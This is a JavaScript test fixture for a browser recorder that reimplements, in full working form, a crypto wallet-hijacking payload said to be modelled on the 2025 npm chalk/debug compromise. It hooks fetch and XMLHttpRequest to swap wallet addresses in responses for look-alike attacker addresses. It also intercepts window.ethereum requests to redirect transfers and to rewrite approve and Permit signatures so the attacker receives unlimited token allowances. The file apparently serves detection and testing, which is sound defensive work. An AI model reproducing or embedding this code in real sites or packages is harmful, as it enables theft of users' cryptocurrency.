// hijack.js - the recorder's in-page hijack fixture, modelled on the September 2025 npm
// payload (chalk/debug): injected before the page's own scripts (playwright addInitScript),
// never served over the network. It
//  - wraps fetch and XMLHttpRequest: every address in a response body (JSON or text) - EVM,
//    Bitcoin legacy and bech32, Tron, Solana, by the payload's kind of patterns - is replaced by
//    the Levenshtein-closest address of that kind's attacker pool (first of equals wins);
//  - wraps window.ethereum.request for eth_sendTransaction: a non-zero `value` to a plain
//    address goes to the attacker; ERC-20 approve (0x095ea7b3) gets the attacker as spender and
//    amount 2^256-1; transfer (0xa9059cbb) and transferFrom (0x23b872dd) the attacker as
//    recipient. (Signed raw transactions cannot be rewritten; they carry whatever address the
//    swapped response gave the page.)
//  - and, as the next payload would, eth_signTypedData_v3/v4: EIP-2612 Permit and Permit2
//    PermitSingle/PermitBatch get the attacker as spender and the maximum amount (uint256 /
//    uint160).
// Every substitution is logged in window.__hijackLog for the recorder.
// Called with { pools: { evm, btc, bech32, tron, sol: [addresses] }, attacker }.
(cfg) => {
  const log = (window.__hijackLog = []);
  const B58 = '1-9A-HJ-NP-Za-km-z';
  const RE = new RegExp(`\\b(?:(?<evm>0x[a-fA-F0-9]{40})|(?<bech32>bc1[02-9ac-hj-np-z]{11,71})|` +
    `(?<btc>[13][${B58}]{25,34})|(?<tron>T[${B58}]{33})|(?<sol>[${B58}]{32,44}))\\b`, 'g');
  function lev(a, b) {
    a = a.toLowerCase(); b = b.toLowerCase();
    let prev = Array.from({ length: b.length + 1 }, (_, j) => j);
    for (let i = 1; i <= a.length; i++) {
      const cur = [i];
      for (let j = 1; j <= b.length; j++)
        cur[j] = Math.min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
      prev = cur;
    }
    return prev[b.length];
  }
  function closest(addr, pool) {
    let best = pool[0], d = Infinity;
    for (const p of pool) { const x = lev(addr, p); if (x < d) { d = x; best = p; } }
    return best;
  }
  function swapText(text, where) {
    return text.replace(RE, (m, ...rest) => {
      const groups = rest[rest.length - 1];
      const kind = Object.keys(groups).find((k) => groups[k] !== undefined);
      const pool = cfg.pools[kind];
      if (!pool || pool.length === 0) return m;
      const r = closest(m, pool);
      if (r !== m) log.push({ kind: 'response', format: kind, where, original: m, replacement: r });
      return r;
    });
  }

  const origFetch = window.fetch;
  window.fetch = async function (...args) {
    const res = await origFetch.apply(this, args);
    const type = res.headers.get('content-type') || '';
    if (!/json|text/.test(type)) return res;
    const text = await res.clone().text();
    const swapped = swapText(text, res.url);
    if (swapped === text) return res;
    return new Response(swapped, { status: res.status, statusText: res.statusText, headers: res.headers });
  };

  const X = XMLHttpRequest.prototype;
  const rt = Object.getOwnPropertyDescriptor(X, 'responseText');
  const rs = Object.getOwnPropertyDescriptor(X, 'response');
  Object.defineProperty(X, 'responseText', { configurable: true, get() {
    const t = rt.get.call(this);
    if (this.readyState !== 4) return t;
    if (this.__swapped === undefined) this.__swapped = swapText(t, this.responseURL);
    return this.__swapped;
  } });
  Object.defineProperty(X, 'response', { configurable: true, get() {
    const r = rs.get.call(this);
    return (typeof r === 'string' && this.readyState === 4) ? this.responseText : r;
  } });

  const MAX = 'f'.repeat(64);
  const word = (a) => a.toLowerCase().replace(/^0x/, '').padStart(64, '0');
  function rewrite(tx) {
    const t = { ...tx };
    const data = (t.data || t.input || '').toLowerCase();
    const sel = data.slice(0, 10);
    const note = (field, original, replacement) =>
      log.push({ kind: 'wallet', field, original, replacement });
    if (sel === '0x095ea7b3' && data.length >= 138) {
      note('spender', '0x' + data.slice(34, 74), cfg.attacker);
      note('amount', '0x' + data.slice(74, 138), '0x' + MAX);
      t.data = sel + word(cfg.attacker) + MAX + data.slice(138);
    } else if (sel === '0xa9059cbb' && data.length >= 74) {
      note('recipient', '0x' + data.slice(34, 74), cfg.attacker);
      t.data = sel + word(cfg.attacker) + data.slice(74);
    } else if (sel === '0x23b872dd' && data.length >= 138) {
      note('recipient', '0x' + data.slice(98, 138), cfg.attacker);
      t.data = data.slice(0, 74) + word(cfg.attacker) + data.slice(138);
    } else if (t.value && BigInt(t.value) !== 0n && t.to) {
      note('to', t.to, cfg.attacker);
      t.to = cfg.attacker;
    }
    if (t.input !== undefined && t.data !== undefined) t.input = t.data;
    return t;
  }
  const MAX160 = ((1n << 160n) - 1n).toString();
  const MAX256 = ((1n << 256n) - 1n).toString();
  function rewriteTyped(json) {
    const td = typeof json === 'string' ? JSON.parse(json) : JSON.parse(JSON.stringify(json));
    const m = td.message || {};
    const note = (field, original, replacement) =>
      log.push({ kind: 'wallet', field, original, replacement });
    if (td.primaryType === 'Permit' && m.spender) {
      note('spender', m.spender, cfg.attacker); m.spender = cfg.attacker;
      if (m.value !== undefined) { note('amount', String(m.value), MAX256); m.value = MAX256; }
    } else if ((td.primaryType === 'PermitSingle' || td.primaryType === 'PermitBatch') && m.spender) {
      note('spender', m.spender, cfg.attacker); m.spender = cfg.attacker;
      for (const d of [].concat(m.details || [])) { note('amount', String(d.amount), MAX160); d.amount = MAX160; }
    } else return json;
    return typeof json === 'string' ? JSON.stringify(td) : td;
  }
  function wrap(eth) {
    if (!eth || eth.__hijacked) return;
    const orig = eth.request.bind(eth);
    eth.request = (req) => {
      if (req && req.method === 'eth_sendTransaction' && Array.isArray(req.params) && req.params[0])
        req = { ...req, params: [rewrite(req.params[0]), ...req.params.slice(1)] };
      if (req && /^eth_signTypedData_v[34]$/.test(req.method) && Array.isArray(req.params) && req.params[1])
        req = { ...req, params: [req.params[0], rewriteTyped(req.params[1]), ...req.params.slice(2)] };
      return orig(req);
    };
    eth.__hijacked = true;
  }
  if (window.ethereum) wrap(window.ethereum);
  else {
    let v;
    Object.defineProperty(window, 'ethereum', { configurable: true,
      get() { return v; }, set(x) { v = x; wrap(x); } });
  }
}
